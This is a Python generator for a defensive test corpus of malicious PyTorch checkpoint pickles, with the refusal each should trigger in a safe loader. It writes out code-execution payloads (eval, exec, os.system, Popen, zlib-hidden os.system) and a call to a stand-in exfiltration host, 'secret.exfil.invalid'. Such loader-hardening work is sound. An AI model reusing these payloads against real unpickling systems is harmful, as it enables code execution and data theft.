#!/usr/bin/env python3
"""Writes the adversarial corpus and expected.tsv, the table AdversarialCorpusTest reads.

Every file is assembled byte by byte here (zip headers, tar headers, a 7z container, pickles opcode by
opcode): nothing is ever unpickled, imported or run, and only the Python standard library is used.
Cases follow /work/shared/docs/adversarial.md sections A to F (the id before the first '_' is the
catalogue's; cases beyond it are marked "+"). Run from anywhere: python3 gen_corpus.py [--out DIR]

expected.tsv columns:
  file      the corpus file
  category  A code execution, B allowlist bypass, C resource exhaustion, D view overflow,
            E format confusion, F scanner evasion and positive controls
  outcome   the exception's simple class name, or "loads"
  message   a fragment of the exception message (empty when the file loads)
  checks    for files that load, ';'-separated facts about the result:
              tensors=N            Checkpoint.tensors() holds N tensors
              T:path=v,v,...       the tensor at that dotted path has these values (row-major, exact)
              shape:path=d,d,...   its shape ("" for a scalar)
              str:key=text         the root dict's value for key is this str (\\n for a newline)
              type:key=name        the Python type name of the root dict's value ("<root>": the root)
              len:key=N            the size of that container
              dump=ok|refused      whether the canonical dump, with its bounds, is produced or refused
  limits    LoadLimits changed for this file (name=value,...), empty for the defaults
  scan      the exit status `weightsonly scan` gives (0 clean, 1 needs allowlisting, 3 dangerous/broken)
  comment   why, and where the library's verdict differs from adversarial.md's
"""
import os
import struct
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True  # importing gen_malicious must leave no __pycache__ among the fixtures
sys.path.insert(0, os.path.join(HERE, "..", "fixtures", "malicious"))
from gen_malicious import glob as g, uni as s, short_uni  # noqa: E402  (GLOBAL, BINUNICODE, SHORT_BINUNICODE)

# ---- pickles ------------------------------------------------------------------------------------------


def n(v):
    """BININT for 32-bit values, else LONG1 with the minimal two's-complement bytes."""
    if -2 ** 31 <= v < 2 ** 31:
        return b"J" + struct.pack("<i", v)
    length = 1
    while not -(1 << (8 * length - 1)) <= v < (1 << (8 * length - 1)):
        length += 1
    return b"\x8a" + bytes([length]) + (v % (1 << (8 * length))).to_bytes(length, "little")


def tup(*xs):
    return b"(" + b"".join(xs) + b"t"


def call(fn, *args):
    return fn + tup(*args) + b"R"


OD = g("collections", "OrderedDict")


def empty_od():
    return call(OD)


def pid(stype="FloatStorage", key="0", numel=4, loc="cpu", module="torch"):
    return tup(s("storage"), g(module, stype), s(key), s(loc), n(numel)) + b"Q"


def tensor(p, offset=0, size=(4,), stride=(1,), fn="_rebuild_tensor_v2", extra=b""):
    return call(g("torch._utils", fn), p, n(offset), tup(*map(n, size)), tup(*map(n, stride)), b"\x89",
                empty_od(), extra)


def odict(*pairs):
    """OrderedDict() filled by SETITEMS; pairs of (key, value bytes); a key may repeat."""
    return empty_od() + b"(" + b"".join(s(k) + v for k, v in pairs) + b"u"


def pkl(body, proto=2):
    return b"\x80" + bytes([proto]) + body + b"."


F4 = struct.pack("<4f", 1, 2, 3, 4)
BASE_PKL = pkl(odict(("w", tensor(pid()))))

# ---- zip, by hand: every field of both headers can be set ------------------------------------------------


def rawzip(entries, prefix=b"", suffix=b"", comment=b"", eocd_count=None, cd_offset_delta=0, comment_len=None):
    """entries: dicts with name and data, and optionally: cd_name, method, flag, cd_flag, crc, lcrc, csize,
    usize, lcsize, lusize (local header sizes), cd_csize, cd_usize, lfh_offset, extra, raw (the bytes as
    stored), dd (write a data descriptor; local crc and sizes then default to 0), attr (external attributes)."""
    body = bytearray(prefix)
    cd = bytearray()
    for e in entries:
        name = e["name"].encode("utf-8") if isinstance(e["name"], str) else e["name"]
        cd_name = e.get("cd_name", name)
        cd_name = cd_name.encode("utf-8") if isinstance(cd_name, str) else cd_name
        data = e["data"]
        raw = e.get("raw", data)
        crc = e.get("crc", zlib.crc32(data) & 0xFFFFFFFF)
        csize = e.get("csize", len(raw))
        usize = e.get("usize", len(data))
        method = e.get("method", 0)
        flag = e.get("flag", 0)
        dd = e.get("dd", False)
        lcrc = e.get("lcrc", 0 if dd else crc)
        lcsize = e.get("lcsize", 0 if dd else csize)
        lusize = e.get("lusize", 0 if dd else usize)
        extra = e.get("extra", b"")
        off = len(body)
        if e.get("cd_only"):  # a directory entry whose local header lies inside another entry's data
            cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flag, method, 0, 0x21, crc, csize, usize,
                              len(cd_name), 0, 0, 0, 0, 0, e["lfh_offset"]) + cd_name
            continue
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, e.get("lflag", flag), e.get("lmethod", method), 0, 0x21,
                            lcrc, lcsize, lusize, len(name), len(extra)) + name + extra + raw
        if dd:
            body += struct.pack("<IIII", 0x08074B50, crc, e.get("cd_csize", csize), e.get("dd_usize", e.get("cd_usize", usize)))
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, e.get("cd_flag", flag), method, 0, 0x21,
                          crc, e.get("cd_csize", csize), e.get("cd_usize", usize), len(cd_name), 0, 0, 0, 0,
                          e.get("attr", 0), e.get("lfh_offset", off)) + cd_name
    count = len(entries) if eocd_count is None else eocd_count
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(cd), len(body) + cd_offset_delta,
                       len(comment) if comment_len is None else comment_len) + comment
    return bytes(body + cd + eocd + suffix)


def std_entries(data_pkl=None, records=None, root="archive", byteorder=b"little"):
    data_pkl = BASE_PKL if data_pkl is None else data_pkl
    records = {"0": F4} if records is None else records
    es = [dict(name=root + "/data.pkl", data=data_pkl)]
    if byteorder is not None:
        es.append(dict(name=root + "/byteorder", data=byteorder))
    es += [dict(name="%s/data/%s" % (root, k), data=v) for k, v in records.items()]
    return es + [dict(name=root + "/version", data=b"3\n")]


def ckpt(data_pkl=None, records=None, extra=None, root="archive"):
    es = std_entries(data_pkl, records, root)
    es += [dict(name=k, data=v) for k, v in (extra or {}).items()]
    return rawzip(es)


def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


# ---- the legacy stream (torch.save with _use_new_zipfile_serialization=False) ------------------------------

MAGIC = 0x1950A86A20F9469CFC6C


def legacy(main_body, storages, keys=None, magic=MAGIC, proto_ver=1001):
    """storages: {key: (numel in the raw header, raw bytes)}; main_body uses lpid()."""
    sys_info = (b"}(" + s("protocol_version") + n(1001) + s("little_endian") + b"\x88" + s("type_sizes")
                + b"}(" + s("short") + n(2) + s("int") + n(4) + s("long") + n(4) + b"uu")  # plain dicts
    out = pkl(n(magic)) + pkl(n(proto_ver)) + pkl(sys_info) + pkl(main_body)
    keys = list(storages) if keys is None else keys
    out += pkl(b"]" + b"(" + b"".join(s(k) for k in keys) + b"e")
    for k in keys:
        numel, raw = storages[k]
        out += struct.pack("<q", numel) + raw
    return out


def lpid(stype="FloatStorage", key="0", numel=4, view=None, loc="cpu"):
    v = b"N" if view is None else tup(s(view[0]), n(view[1]), n(view[2]))
    return tup(s("storage"), g("torch", stype), s(key), s(loc), n(numel), v) + b"Q"


BASE_LEGACY_MAIN = odict(("w", tensor(lpid())))

# ---- the tar format of PyTorch 0.1.x, with ustar headers written by hand ----------------------------------


def tar_header(name, size, typeflag=b"0"):
    h = bytearray(512)
    h[0:len(name)] = name.encode()
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = ("%011o" % size).encode() + b"\0"
    h[136:148] = b"00000000000\0"
    h[148:156] = b" " * 8
    h[156:157] = typeflag
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = ("%06o" % sum(h)).encode() + b"\0 "
    return bytes(h)


def tar(members, size_override=None):
    out = bytearray()
    for name, data in members:
        size = len(data) if size_override is None or name not in size_override else size_override[name]
        out += tar_header(name, size) + data + b"\0" * (-len(data) % 512)
    return bytes(out + b"\0" * 1024)


def tar_ckpt(object_pickle, storages=None, tensors=None, views=b"]"):
    """storages: [(key, location, storage class name, numel in the raw header, raw)];
    tensors: [(key, storage key, ndim, sizes, strides, offset)] written as the 0.1.x tensors member."""
    storages = [(1000, "cpu", "FloatStorage", 4, F4)] if storages is None else storages
    tensors = [(1, 1000, 1, (4,), (1,), 0)] if tensors is None else tensors
    st = pkl(n(len(storages)))
    for key, loc, cls, numel, raw in storages:
        st += pkl(tup(n(key), s(loc), g("torch", cls))) + struct.pack("<q", numel) + raw
    st += pkl(views)
    te = pkl(n(len(tensors)))
    for key, skey, ndim, sizes, strides, offset in tensors:
        te += pkl(tup(n(key), n(skey), g("torch", "FloatTensor")))
        te += struct.pack("<i", ndim) + b"\0" * 4 + b"".join(struct.pack("<q", x) for x in sizes)
        te += b"".join(struct.pack("<q", x) for x in strides) + struct.pack("<q", offset)
    sys_info = pkl(b"}(" + s("protocol_version") + n(1000) + s("little_endian") + b"\x88u")
    return tar([("sys_info", sys_info), ("pickle", object_pickle), ("tensors", te), ("storages", st)])


# ---- a 7z container holding one file with the Copy coder (nothing compressed), by hand -------------------


def seven_zip(name, payload):
    def num(v):  # 7z's variable-length number; values here are below 2^14
        return bytes([v]) if v < 0x80 else bytes([0x80 | (v >> 8), v & 0xFF])
    header = (b"\x01"                                              # Header
              + b"\x04"                                            # MainStreamsInfo
              + b"\x06" + num(0) + num(1) + b"\x09" + num(len(payload)) + b"\x00"   # PackInfo
              + b"\x07" + b"\x0b" + num(1) + b"\x00"                # UnpackInfo: Folder, 1 folder, inline
              + num(1) + b"\x01\x00"                               # 1 coder: id size 1, id 00 = Copy
              + b"\x0c" + num(len(payload)) + b"\x00"              # CodersUnpackSize
              + b"\x08" + b"\x0d" + num(1) + b"\x00"                # SubStreamsInfo: one stream in the folder
              + b"\x00"                                            # end MainStreamsInfo
              + b"\x05" + num(1)                                   # FilesInfo: 1 file
              + b"\x11" + num(1 + 2 * (len(name) + 1)) + b"\x00" + (name + "\0").encode("utf-16-le")
              + b"\x00"                                            # end FilesInfo
              + b"\x00")                                           # end Header
    start = struct.pack("<QQI", len(payload), len(header), zlib.crc32(header) & 0xFFFFFFFF)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start) & 0xFFFFFFFF) + start + payload + header


# ---- the table ----------------------------------------------------------------------------------------------

CASES = []


def case(file, cat, outcome, message="", checks="", scan=0, comment="", limits=""):
    assert outcome == "loads" or message, file
    assert all("\t" not in x and "\n" not in x for x in (message, checks, comment, limits)), file
    # One rule between scan and load: a file the loader refuses never scans clean, because the scanner confirms a
    # clean verdict with a weights-only load (GlobalScanner; the test scans with the row's limits, as it loads).
    if scan == 0 and outcome != "loads":
        scan = 3
    CASES.append((file, cat, outcome, message, checks, limits, str(scan), comment))
    return file


DATA = {}


def add(file, data, cat, outcome, message="", checks="", scan=0, comment="", limits=""):
    DATA[file] = data
    case(file, cat, outcome, message, checks, scan, comment, limits)


UG = "UnsupportedGlobalException"
UNSAFE = "UnsafeCheckpointException"
MAL = "MalformedCheckpointException"
LIM = "LimitExceededException"
UNSUP = "UnsupportedCheckpointException"
W4 = "tensors=1;T:w=1,2,3,4"


def in_sd(payload):
    """{'w': tensor, 'x': payload}: the payload next to valid data (a partial result must not come back)."""
    return pkl(odict(("w", tensor(pid())), ("x", payload)))


# A: code execution through globals and callables ------------------------------------------------------------

SRC = "__import__('os').system('id')"
add("A01a_eval_reduce.pt", ckpt(pkl(call(g("builtins", "eval"), s(SRC)))), "A", UG,
    "GLOBAL eval was not an allowed global", scan=3,
    comment="refused at the GLOBAL, before REDUCE")
add("A01b_exec_py2_name.pt", ckpt(pkl(call(g("__builtin__", "exec"), s(SRC)))), "A", UG,
    "GLOBAL exec was not an allowed global", scan=3,
    comment="Python 2 spelling mapped first, then refused")
for mod, detail in [("posix", "whose module posix is blocked"), ("nt", "whose module nt is blocked"),
                    ("os", "whose module os is blocked")]:
    add("A02_%s_system.pt" % mod, ckpt(in_sd(call(g(mod, "system"), s("id")))), "A", UG, detail, scan=3,
        comment="blocked module; the valid tensor next to it is not returned")
add("A03_stack_global_exec.pt",
    ckpt(pkl(short_uni("builtins") + short_uni("exec") + b"\x93" + s("print('x')") + b"\x85R", proto=4)),
    "A", UG, "GLOBAL exec was not an allowed global", scan=3,
    comment="STACK_GLOBAL is read (protocol 4) and its names go through the same allowlist")
add("A04_inst_exec.pt", ckpt(b"(S'raise RuntimeError(\"x\")'\ni__builtin__\nexec\n."), "A", UG,
    "GLOBAL exec was not an allowed global", scan=3,
    comment="INST and STRING are read (protocol 0); INST resolves through the allowlist. adversarial.md: UnsupportedOpcode")
add("A05a_obj_os_system.pt", ckpt(b'(cos\nsystem\nS"whoami"\no.'), "A", UG, "whose module os is blocked", scan=3,
    comment="OBJ calls only what the allowlist resolved")
add("A05b_obj_pop_smtp.pt", ckpt(b"\x80\x04(\x8c\x07smtplib\x8c\x04SMTP\x93\x8c\t127.0.0.1o0N."), "A", UG,
    "GLOBAL smtplib.SMTP was not an allowed global", scan=3,
    comment="a call whose result POP discards is still refused at its STACK_GLOBAL")
add("A06a_newobj_popen.pt", ckpt(pkl(g("subprocess", "Popen") + tup(tup(s("id"))) + b"\x81")), "A", UG,
    "GLOBAL subprocess.Popen was not an allowed global", scan=3)
add("A06b_newobj_on_function.pt", ckpt(pkl(g("torch._utils", "_rebuild_tensor_v2") + tup() + b"\x81")), "A",
    UNSAFE, "Can only create new object for nn.Parameter", scan=0,
    comment="NEWOBJ of an allowed function is not a constructor")
add("A06c_newobj_ex_ordereddict.pt", ckpt(pkl(OD + tup() + b"}" + b"\x92", proto=4)), "A", "loads",
    checks="type:<root>=collections.OrderedDict;len:<root>=0",
    comment="NEWOBJ_EX of an allowed class with no keyword arguments is OrderedDict.__new__: data only. adversarial.md: UnsupportedOpcode")
add("A08a_string_operands_stack_global.pt", ckpt(b"S'os'\nS'system'\n\x93S'ls'\n\x85R."), "A", UG,
    "whose module os is blocked", scan=3)
add("A08b_int_operand_stack_global.pt", ckpt(b"\x80\x04J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42."),
    "A", MAL, "STACK_GLOBAL requires str module and name, got int and str", scan=3)
add("A08c_undefined_memo_stack_global.pt", ckpt(b"\x80\x04\x8c\x02os\x94h\x03h\x00\x93K\x42."), "A", MAL,
    "memo slot 3 was read before it was written", scan=3)
join = call(g("builtins", "getattr"), s(""), s("join"))
add("A09_computed_names.pt",
    ckpt(pkl(call(join, tup(s("o"), s("s"))) + call(join, tup(*(s(c) for c in "system"))) + b"\x93"
             + tup(s("id")) + b"R", proto=4)),
    "A", UG, "GLOBAL getattr was not an allowed global", scan=3,
    comment="names computed by calls never reach a lookup: the first call is already refused")
inner = pkl(call(g("os", "system"), s("id")))
add("A11a_pickle_loads_binbytes.pt",
    ckpt(pkl(call(g("pickle", "loads"), b"B" + struct.pack("<I", len(inner)) + inner), proto=3)), "A", UG,
    "GLOBAL pickle.loads was not an allowed global", scan=3,
    comment="bytes in a checkpoint are data, never a nested pickle")
code = b"\xe3" + b"\x00" * 40
add("A11b_marshal_function_type.pt",
    ckpt(pkl(call(g("types", "FunctionType"), call(g("marshal", "loads"), b"C" + bytes([len(code)]) + code), b"}"),
             proto=3)), "A", UG, "GLOBAL types.FunctionType was not an allowed global", scan=3)
add("A11e_load_from_bytes.pt", ckpt(in_sd(call(g("torch.storage", "_load_from_bytes"), b"C\x00"))), "A", UG,
    "GLOBAL torch.storage._load_from_bytes was not an allowed global", scan=3)
add("A12_build_on_module.pt",
    ckpt(pkl(g("torch", "_utils") + b"}" + s("_rebuild_tensor_v2") + s("builtins") + b"s" + b"b" + b"0"
             + tensor(pid()))), "A", UG, "GLOBAL torch._utils was not an allowed global", scan=1,
    comment="a module is never a global; BUILD could only ever touch a record the loader made")
for mod, fn in [("torch._inductor.codecache", "compile_file"), ("torch.jit.unsupported_tensor_ops", "execWrapper"),
                ("torch._dynamo.guards", "GuardBuilder.get"), ("torch.utils.bottleneck.__main__", "run_cprofile"),
                ("torch.hub", "load_state_dict_from_url")]:
    add("A13_%s.pt" % fn.replace(".", "_"), ckpt(pkl(call(g(mod, fn), s(SRC)))), "A", UG,
        "GLOBAL %s.%s was not an allowed global" % (mod, fn), scan=3,
        comment="a gadget inside torch: the allowlist holds exact names, never prefixes")
for mod, fn, arg in [("_io", "FileIO", s("/etc/hosts")), ("logging", "FileHandler", s("evil.log")),
                     ("urllib.request", "urlopen", s("https://example.invalid")),
                     ("ssl", "get_server_certificate", tup(s("secret.exfil.invalid"), n(443)))]:
    add("A16_%s.pt" % fn, ckpt(pkl(call(g(mod, fn), arg))), "A", UG,
        "GLOBAL %s.%s was not an allowed global" % (mod, fn), scan=3,
        comment="no file, socket or DNS side effect: AdversarialCorpusTest checks that no evil.log appears")
zcode = zlib.compress(b"import os; os.system('id')")
frag = (b"\x80\x02" + g("__builtin__", "exec") + b"(" + g("zlib", "decompress") + b"(B"
        + struct.pack("<I", len(zcode)) + zcode + b"tRtR0\x80\x02")
add("A17_injected_mid_stream.pt", ckpt(BASE_PKL[:30] + frag + BASE_PKL[30:]), "A", UG,
    "GLOBAL exec was not an allowed global", scan=3,
    comment="PROTO is data-free, so the mid-stream one is read; the injected GLOBAL is refused and w is never returned. adversarial.md: MalformedPickle at the PROTO")

# B: allowlist bypasses and misuse of allowed names ---------------------------------------------------------------

add("B01_torchscript_archive.pt",
    ckpt(BASE_PKL, extra={"archive/constants.pkl": pkl(b")"),
                          "archive/code/__torch__/m.py": b"def forward(self):\n    return torch.ops.aten.zeros([1])\n"}),
    "B", UNSUP, "Cannot use weights_only=True with TorchScript archives", scan=3,
    comment="CVE-2025-32434: a TorchScript archive is refused, never handed to anything that runs code")
add("B01b_torchscript_bad_version.pt",
    rawzip([dict(name="m/constants.pkl", data=pkl(b")")), dict(name="m/version", data=b"abc")]), "B", UNSUP,
    "TorchScript", scan=3, comment="recognised before anything else about the archive is read")
add("B02_tar_with_zip_style_ids.pt", tar_ckpt(BASE_PKL, storages=[], tensors=[]), "B", UNSAFE,
    "whole-module persistent id", scan=0,
    comment="0.1.x tar is read (every geometry checked) but its tuple persistent ids are module source: refused. adversarial.md: UnsupportedFormat")
add("B02b_tar_module_pid.pt",
    tar_ckpt(pkl(tup(s("module"), g("collections", "OrderedDict"), s("src.py"), s("import os")) + b"Q")), "B",
    UNSAFE, "module source is never loaded", scan=0)
add("B02c_tar_os_system.pt", tar_ckpt(pkl(call(g("os", "system"), s("id")))), "B", UG,
    "whose module os is blocked", scan=3)
add("B03a_setitems_on_tensor.pt", ckpt(pkl(tensor(pid()) + b"(" + n(1) + n(0x41414141) + b"u")), "B", UNSAFE,
    "Can only SETITEMS for dict, collections.OrderedDict, collections.Counter, but got Tensor", scan=0,
    comment="CVE-2026-24747 part 1: item assignment only into dicts the loader made")
add("B03b_setitem_on_list.pt", ckpt(pkl(b"]" + n(0) + n(1) + b"s")), "B", UNSAFE,
    "Can only SETITEM for dict, collections.OrderedDict, collections.Counter, but got list", scan=0)
add("B03c_setitem_on_tuple.pt", ckpt(pkl(tup(n(0)) + n(0) + n(1) + b"s")), "B", UNSAFE,
    "but got tuple", scan=0)
add("B03d_setitem_on_oversized_tensor.pt",
    ckpt(pkl(tensor(pid(numel=32), size=(32,)) + n(20) + n(0x41414141) + b"s")), "B", MAL,
    "record size (16 bytes) does not match expected size (128 bytes",
    scan=0, comment="both halves of CVE-2026-24747 together: the lying record is refused before the SETITEM")
add("B04a_append_on_tensor.pt", ckpt(pkl(tensor(pid()) + n(1) + b"a")), "B", UNSAFE,
    "Can only append to lists, but got Tensor (APPEND)", scan=0)
add("B04b_appends_on_ordereddict.pt", ckpt(pkl(odict(("w", tensor(pid()))) + b"(" + n(1) + b"e")), "B", UNSAFE,
    "Can only append to lists, but got collections.OrderedDict (APPENDS)", scan=0)
add("B06a_tensor_as_pid.pt", ckpt(pkl(tensor(pid()) + b"Q")), "B", MAL,
    "persistent_load id must be tuple or int, but got Tensor", scan=0,
    comment="messages name the type, never the (possibly out-of-bounds) tensor's contents")
add("B06b_module_pid.pt", ckpt(pkl(tup(s("module"), OD, s("x"), s("y")) + b"Q")), "B", UNSAFE,
    "Only persistent_load of storage is allowed, but got 'module'", scan=0)
add("B06d_long_key_in_error.pt", ckpt(pkl(odict(("k" * 100000, tensor(pid(numel=4), size=(5,)))))), "B", MAL,
    "(building the value of key 'kkkkkkkkkk", scan=0,
    comment="+ a 100,000-character key: every message stays short (the key is cut at 120 characters)")
add("B06c_int_pid.pt", ckpt(pkl(n(7) + b"Q")), "B", MAL, "persistent id 7 is an int", scan=0)
bad_pids = {
    "stype": (tup(s("storage"), OD, s("0"), s("cpu"), n(4)), "storage type must be a torch storage class"),
    "key_int": (tup(s("storage"), g("torch", "FloatStorage"), n(0), s("cpu"), n(4)), "storage key must be str"),
    "numel_neg": (tup(s("storage"), g("torch", "FloatStorage"), s("0"), s("cpu"), n(-1)),
                  "storage numel must be a non-negative int, got -1"),
    "numel_float": (tup(s("storage"), g("torch", "FloatStorage"), s("0"), s("cpu"), b"G" + struct.pack(">d", 4.0)),
                    "storage numel must be a non-negative int, got 4.0"),
    "numel_bool": (tup(s("storage"), g("torch", "FloatStorage"), s("0"), s("cpu"), b"\x88"),
                   "storage numel must be a non-negative int, got True"),
    "numel_big": (tup(s("storage"), g("torch", "FloatStorage"), s("0"), s("cpu"), n(2 ** 70)),
                  "storage numel 1180591620717411303424 is too large"),
    "arity6": (tup(s("storage"), g("torch", "FloatStorage"), s("0"), s("cpu"), n(4), b"N"),
               "a storage id in the zip format has 5 fields"),
}
for k, (p, detail) in bad_pids.items():
    add("B07_%s.pt" % k, ckpt(pkl(odict(("w", tensor(p + b"Q"))))), "B", MAL, detail, scan=0,
        comment="bool is not accepted as an int" if k == "numel_bool" else "")
add("B08_newobj_args_not_tuple.pt", ckpt(pkl(OD + n(5) + b"\x81")), "B", MAL,
    "NEWOBJ arguments must be a tuple, got int", scan=0)
for mod, name, outcome, detail, scan, checks in [
        ("__builtin__", "set", "loads", "", 0, "type:x=set;len:x=0"),
        ("__builtin__", "eval", UG, "GLOBAL eval was not an allowed global", 3, ""),
        ("copy_reg", "_reconstructor", UG, "GLOBAL copyreg._reconstructor was not an allowed global", 3, ""),
        ("UserDict", "UserDict", UG, "GLOBAL collections.UserDict was not an allowed global", 1, "")]:
    add("B11_%s.%s.pt" % (mod, name), ckpt(pkl(odict(("x", call(g(mod, name), tup()))))), "B", outcome, detail,
        checks=checks, scan=scan, comment="Python 2 names are mapped before the exact allowlist lookup")


def sparse_coo(indices_pid, values_pid, size, idx_size=(2, 1), idx_stride=(1, 1), val_size=(1,), val_stride=(1,)):
    idx = tensor(indices_pid, size=idx_size, stride=idx_stride)
    val = tensor(values_pid, size=val_size, stride=val_stride)
    return call(g("torch._utils", "_rebuild_sparse_tensor"), call(g("torch.serialization", "_get_layout"),
                                                                 s("torch.sparse_coo")),
                tup(idx, val, tup(*map(n, size))))


SP_RECORDS = {"0": struct.pack("<2q", 10, 10), "1": struct.pack("<f", 1.0)}
add("B12_sparse_index_outside.pt",
    ckpt(pkl(odict(("w", sparse_coo(pid("LongStorage", "0", 2), pid("FloatStorage", "1", 1), (3, 3))))),
         SP_RECORDS), "B", MAL, "index 10 of nonzero 0 in dimension 0 is outside the size 3", scan=0,
    comment="CVE-2025-62164 class: every sparse index is checked against the shape when loaded")
add("B12b_sparse_legacy_class.pt",
    ckpt(pkl(odict(("w", call(g("torch.sparse", "FloatTensor"), tensor(pid("LongStorage", "0", 2), size=(2, 1),
                                                                        stride=(1, 1)),
                              tensor(pid("FloatStorage", "1", 1), size=(1,)),
                              call(g("torch", "Size"), tup(n(3), n(3))))))), SP_RECORDS), "B", UNSAFE,
    "Trying to call reduce for unrecognized function TorchClass[qualifiedName=torch.sparse.FloatTensor]", scan=0,
    comment="the legacy tensor classes are allowed names (torch allows them) but are never called as constructors")
add("B12c_sparse_expanded_indices.pt",
    ckpt(pkl(odict(("w", sparse_coo(pid("LongStorage", "0", 1), pid("FloatStorage", "1", 1), (3,),
                                    idx_size=(1, 1 << 28), idx_stride=(0, 0), val_size=(1 << 28,),
                                    val_stride=(0,))))),
         {"0": struct.pack("<q", 1), "1": struct.pack("<f", 1.0)}), "B", MAL,
    "COO indices claim 268435456 elements over a storage of 8 bytes", scan=0,
    comment="+ stride-0 indices claiming 2^28 entries over one stored int64: refused (their check used to copy them into 4 GiB)")
csr = call(g("torch._utils", "_rebuild_sparse_tensor"), call(g("torch.serialization", "_get_layout"), s("torch.sparse_csr")),
           tup(tensor(pid("LongStorage", "0", 3), size=(3,)), tensor(pid("LongStorage", "1", 1), size=(1 << 26,), stride=(0,)),
               tensor(pid("FloatStorage", "2", 1), size=(1 << 26,), stride=(0,)), tup(n(2), n(2))))
add("B12d_csr_expanded_plain_indices.pt",
    ckpt(pkl(odict(("w", csr))), {"0": struct.pack("<3q", 0, 0, 1 << 26), "1": struct.pack("<q", 0),
                                   "2": struct.pack("<f", 1.0)}), "B", MAL,
    "indices must be contiguous per batch (last stride 1), got strides [1] and [0]", scan=0,
    comment="+ the same for a CSR tensor's column indices: refused before any is read, as torch 2.6 refuses them,"
            " for their last stride is not 1")
add("B13_numpy_scalar.pt",
    ckpt(pkl(odict(("x", call(g("numpy.core.multiarray", "scalar"), call(g("numpy", "dtype"), s("f8")),
                              s("\x00" * 8)))))), "B", UG,
    "GLOBAL numpy.core.multiarray.scalar was not an allowed global", scan=1)
qp = tup(g("torch", "per_channel_affine"), tensor(pid("DoubleStorage", "1", 1), size=(1,)),
         tensor(pid("LongStorage", "2", 1), size=(1,)), n(7))
q = call(g("torch._utils", "_rebuild_qtensor"), pid("QInt8Storage", "0", 4), n(0), tup(n(4)), tup(n(1)), qp, b"\x89",
         empty_od())
add("B14_qtensor_bad_axis.pt",
    ckpt(pkl(odict(("w", q))), {"0": b"\x01\x02\x03\x04", "1": struct.pack("<d", 0.5), "2": struct.pack("<q", 0)}),
    "B", MAL, "quantization axis 7 is outside a tensor of 1 dimensions", scan=0)
add("B15_meta_tensor_huge.pt",
    ckpt(pkl(odict(("w", call(g("torch._utils", "_rebuild_meta_tensor_no_storage"), g("torch", "float32"),
                              tup(n(2 ** 40)), tup(n(1)), b"\x89"))))), "B", "loads",
    checks="tensors=0;type:w=MetaTensor;dump=ok", scan=0,
    comment="a meta tensor has no data: 2^40 elements cost nothing")

# C: resource exhaustion -------------------------------------------------------------------------------------------

add("C01a_binunicode_4g_claim.pt", ckpt(b"\x80\x02X\xff\xff\xff\xffabc"), "C", LIM,
    "string or bytes of 4294967295 bytes", scan=3, comment="checked against maxStringBytes, then against the bytes left; nothing allocated")
add("C01b_binunicode_2g_claim.pt", ckpt(b"\x80\x02X\xf0\xff\xff\x7f" + b"a" * 100), "C", LIM,
    "string or bytes of 2147483632 bytes", scan=3)
add("C01c_short_binstring_truncated.pt", ckpt(b"\x80\x02U\xffab"), "C", MAL,
    "opcode needs 255 more bytes, 2 remain", scan=3)
add("C01d_binbytes_claim_past_end.pt", ckpt(b"\x80\x03B\x00\x00\x00\x10abc."), "C", MAL,
    "opcode needs 268435456 more bytes, 4 remain", scan=3, comment="a 256 MiB claim under the limit: the bytes must be there")
add("C01e_long4_claim.pt", ckpt(b"\x80\x02\x8b\xff\xff\xff\x7f\x00."), "C", LIM, "integer of 2147483647 bytes", scan=3)
add("C01f_text_int_digits.pt", ckpt(b"I" + b"9" * 20000 + b"\n."), "C", LIM, "maxIntegerBytes", scan=0,
    comment="quadratic integer parsing is bounded by maxIntegerBytes")
for op, nm in [(b"\x8d", "binunicode8"), (b"\x8e", "binbytes8"), (b"\x96", "bytearray8")]:
    add("C02_%s_2e64.pt" % nm, ckpt(b"\x80\x05" + op + struct.pack("<Q", 2 ** 64 - 1) + b"x"), "C", MAL,
        "length 18446744073709551615 is larger than any input", scan=3,
        comment="8-byte lengths are unsigned: 2^64-1 is never -1")
    add("C02_%s_2e63.pt" % nm, ckpt(b"\x80\x05" + op + struct.pack("<Q", 2 ** 63 - 1) + b"x"), "C", LIM,
        "string or bytes of 9223372036854775807 bytes", scan=3)
add("C03_binstring_negative.pt", ckpt(b"\x80\x02T\xff\xff\xff\xffabc."), "C", MAL, "negative length -1", scan=3,
    comment="BINSTRING's length is signed, as in CPython's pure-Python reader. adversarial.md: UnsupportedOpcode")
add("C05a_frame_2e63.pt", ckpt(b"\x80\x04\x95" + struct.pack("<Q", 2 ** 63) + b"N."), "C", MAL,
    "length 9223372036854775808 is larger than any input", scan=3)
add("C05b_frame_straddle.pt", ckpt(b"\x80\x05\x95" + struct.pack("<Q", 5) + b"B" + struct.pack("<I", 20) + b"A" * 20 + b"."),
    "C", "loads", checks="type:<root>=bytes", scan=0,
    comment="frames only batch reads: loader and scanner both read the opcodes in place, so no frame boundary can hide one from the other")
add("C06a_memo_index_huge.pt", ckpt(pkl(b"N" + b"r" + struct.pack("<I", 0xFFFFFFF0))), "C", "loads",
    checks="type:<root>=NoneType", scan=0, comment="the memo is a map for far indices: nothing sized by the index")
add("C06b_sparse_memo_flood.pt",
    ckpt(pkl(b"N" + b"".join(b"r" + struct.pack("<I", i * 7919) for i in range(30000)))), "C", "loads",
    checks="type:<root>=NoneType", scan=0,
    comment="30,000 memo slots far apart stay under maxMemoEntries; the small heap of this test holds them")
add("C06c_memo_flood_limit.pt", ckpt(pkl(b"N" + b"".join(b"r" + struct.pack("<I", i) for i in range(1001)))),
    "C", LIM, "more than 1000 memo entries", limits="maxMemoEntries=1000", scan=0)
laughs = b"(" * 10 + b"U\x03lol" + (b"2" * 9 + b"l") * 10 + b"."
add("C08a_billion_laughs_dup.pt", ckpt(laughs), "C", "loads", checks="type:<root>=list;len:<root>=10;dump=refused",
